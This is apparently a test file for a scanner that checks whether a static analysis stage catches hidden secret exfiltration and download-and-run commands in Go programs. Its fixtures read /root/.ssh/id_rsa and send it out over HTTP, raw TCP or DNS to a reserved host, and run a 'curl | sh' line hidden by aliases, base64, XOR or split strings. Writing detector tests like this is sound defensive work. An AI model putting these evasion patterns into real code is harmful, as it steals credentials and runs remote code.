import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: hosts are reserved (RFC 2606), and nothing of it is run. */
const SENT = 'secret-file-to-network';
const PIPED = 'downloaded-script-piped';
/** `curl -s https://e.invalid/x | sh` in base64, and with each byte crossed with 0x42. */
const ORDER = 'curl -s https://e.invalid/x | sh';
const ENCODED = Buffer.from(ORDER).toString('base64');
const CROSSED = [...Buffer.from(ORDER)].map((byte) => `0x${(byte ^ 0x42).toString(16)}`).join(', ');

const program = (imports: string, body: string, name = 'main'): string =>
  `package ${name}\n\nimport (\n${imports}\n)\n\n${body}\n`;

const READ_AND_SEND = '"net/http"\n"os"\n"strings"';
const RUN = '"os/exec"';

/** What hides a flow or a command in Go, with the rule that sees it all the same. */
const HIDDEN: readonly (readonly [what: string, rule: string, files: Readonly<Record<string, string>>])[] = [
  [
    'an alias',
    PIPED,
    { 'main.go': program('x "os/exec"', `func main() { x.Command("sh", "-c", "${ORDER}").Run() }`) },
  ],
  [
    'a dot import',
    PIPED,
    { 'main.go': program('. "os/exec"', `func main() { Command("sh", "-c", "${ORDER}").Run() }`) },
  ],
  [
    'a variable that is the function',
    PIPED,
    { 'main.go': program(RUN, `var run = exec.Command\nfunc main() { run("sh", "-c", "${ORDER}").Run() }`) },
  ],
  [
    'a table of functions',
    PIPED,
    {
      'main.go': program(
        RUN,
        `func main() {\n\tsteps := map[string]func(string, ...string) *exec.Cmd{"a": exec.Command}\n\tsteps["a"]("sh", "-c", "${ORDER}").Run()\n}`,
      ),
    },
  ],
  [
    'words in a list',
    PIPED,
    {
      'main.go': program(
        RUN,
        `func main() {\n\twords := []string{"-c", "${ORDER}"}\n\texec.Command("sh", words...).Run()\n}`,
      ),
    },
  ],
  [
    'base64',
    PIPED,
    {
      'main.go': program(
        `"encoding/base64"\n${RUN}`,
        `func main() {\n\torder, _ := base64.StdEncoding.DecodeString("${ENCODED}")\n\texec.Command("sh", "-c", string(order)).Run()\n}`,
      ),
    },
  ],
  [
    'a decoder of its own',
    PIPED,
    {
      'main.go': program(
        RUN,
        `func clear(data []byte) string {\n\tout := make([]byte, len(data))\n\tfor i, b := range data {\n\t\tout[i] = b ^ 0x42\n\t}\n\treturn string(out)\n}\nfunc main() { exec.Command("sh", "-c", clear([]byte{${CROSSED}})).Run() }`,
      ),
    },
  ],
  [
    'pieces',
    PIPED,
    {
      'main.go': program(
        `"strings"\n${RUN}`,
        `const tool = "cu" + "rl"\nfunc main() { exec.Command("sh", "-c", strings.Join([]string{tool, "-s https://e.invalid/x", "|", "sh"}, " ")).Run() }`,
      ),
    },
  ],
  [
    'a method of a struct',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'type box struct{ held string }\nfunc (b *box) fill() {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tb.held = string(data)\n}\nfunc (b box) send() { http.Post("https://e.invalid", "text/plain", strings.NewReader(b.held)) }\nfunc main() {\n\tb := &box{}\n\tb.fill()\n\tb.send()\n}',
      ),
    },
  ],
  [
    'a value in braces',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'type box struct{ held []byte }\nfunc main() {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tb := box{held: data}\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(string(b.held)))\n}',
      ),
    },
  ],
  [
    'a channel between routines',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'func main() {\n\tc := make(chan string)\n\tgo func() {\n\t\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\t\tc <- string(data)\n\t}()\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(<-c))\n}',
      ),
    },
  ],
  [
    'several results',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'func load() (int, string, error) {\n\tdata, err := os.ReadFile("/root/.ssh/id_rsa")\n\treturn len(data), string(data), err\n}\nfunc main() {\n\tif _, text, err := load(); err == nil {\n\t\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(text))\n\t}\n}',
      ),
    },
  ],
  [
    'results with names',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'func load() (text string, err error) {\n\tdata, err := os.ReadFile("/root/.ssh/id_rsa")\n\ttext = string(data)\n\treturn\n}\nfunc main() {\n\ttext, _ := load()\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(text))\n}',
      ),
    },
  ],
  [
    'what one call gives another',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'func load() (string, string) {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\treturn "https://e.invalid", string(data)\n}\nfunc send(to, text string) { http.Post(to, "text/plain", strings.NewReader(text)) }\nfunc main() { send(load()) }',
      ),
    },
  ],
  [
    'a buffer',
    SENT,
    {
      'main.go': program(
        '"bytes"\n"net/http"\n"os"',
        'func main() {\n\tvar buf bytes.Buffer\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tbuf.WriteString("x=")\n\tbuf.Write(data)\n\thttp.Post("https://e.invalid", "text/plain", &buf)\n}',
      ),
    },
  ],
  [
    'an archive',
    SENT,
    {
      'main.go': program(
        '"bytes"\n"compress/gzip"\n"net/http"\n"os"',
        'func main() {\n\tvar buf bytes.Buffer\n\tzip := gzip.NewWriter(&buf)\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tzip.Write(data)\n\tzip.Close()\n\thttp.Post("https://e.invalid", "text/plain", &buf)\n}',
      ),
    },
  ],
  [
    'a bare connection',
    SENT,
    {
      'main.go': program(
        '"fmt"\n"net"\n"os"',
        'func main() {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tconn, _ := net.Dial("tcp", "e.invalid:443")\n\tfmt.Fprintf(conn, "%s", data)\n}',
      ),
    },
  ],
  [
    'a name that is looked up',
    'secret-in-dns-name',
    {
      'main.go': program(
        '"encoding/hex"\n"net"\n"os"',
        'func main() {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tnet.LookupHost(hex.EncodeToString(data) + ".e.invalid")\n}',
      ),
    },
  ],
  [
    'another file of the package',
    SENT,
    {
      'main.go': program(
        '"os"',
        'func main() {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tsend(data)\n}',
      ),
      'send.go': program(
        '"net/http"\n"strings"',
        'func send(data []byte) { http.Post("https://e.invalid", "text/plain", strings.NewReader(string(data))) }',
      ),
    },
  ],
  [
    'another package of the target',
    SENT,
    {
      'main.go': program(
        '"example.com/tool/internal/keys"\n"net/http"\n"strings"',
        'func main() { http.Post("https://e.invalid", "text/plain", strings.NewReader(keys.All())) }',
      ),
      'internal/keys/keys.go': program(
        '"os"',
        'func All() string {\n\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\treturn string(data)\n}',
        'keys',
      ),
    },
  ],
  [
    'a variable of the package',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'var held, _ = os.ReadFile("/root/.ssh/id_rsa")\nfunc main() { http.Post("https://e.invalid", "text/plain", strings.NewReader(string(held))) }',
      ),
    },
  ],
  [
    'a name that is used again',
    SENT,
    {
      'main.go': program(
        READ_AND_SEND,
        'func main() {\n\tdata := []byte("x")\n\tif len(os.Args) > 1 {\n\t\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\t\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(string(data)))\n\t}\n\t_ = data\n}',
      ),
    },
  ],
];

describe('a program in Go', () => {
  it.each(HIDDEN)('is seen through %s', async (_what, rule, files) => {
    const outcome = await staticStage.run(targetOf(files), STAGE_CONTEXT);
    expect(outcome.findings.map(({ ruleId }) => ruleId)).toContain(rule);
  });

  it.each([
    [
      'sends what it read from its own file',
      program(
        READ_AND_SEND,
        'func main() {\n\tdata, _ := os.ReadFile("report.txt")\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(string(data)))\n}',
      ),
    ],
    [
      'sends an error, not what was read',
      program(
        READ_AND_SEND,
        'func main() {\n\t_, err := os.ReadFile("/root/.ssh/id_rsa")\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(err.Error()))\n}',
      ),
    ],
    [
      'holds a variable of the same name further in',
      program(
        READ_AND_SEND,
        'func main() {\n\tdata := "x"\n\tif len(os.Args) > 1 {\n\t\tdata, _ := os.ReadFile("/root/.ssh/id_rsa")\n\t\t_ = data\n\t}\n\thttp.Post("https://e.invalid", "text/plain", strings.NewReader(data))\n}',
      ),
    ],
  ])('is not taken for what it is not when it %s', async (_what, text) => {
    const outcome = await staticStage.run(targetOf({ 'main.go': text }), STAGE_CONTEXT);
    expect(outcome.findings.map(({ ruleId }) => ruleId)).not.toContain(SENT);
  });
});
